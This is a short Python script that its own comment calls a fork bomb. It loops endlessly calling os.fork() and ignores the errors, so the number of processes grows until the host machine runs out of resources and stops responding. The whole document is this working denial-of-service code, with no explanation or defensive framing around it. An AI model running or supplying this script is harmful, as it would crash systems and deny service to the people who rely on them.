# A fork bomb: every process forks on.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
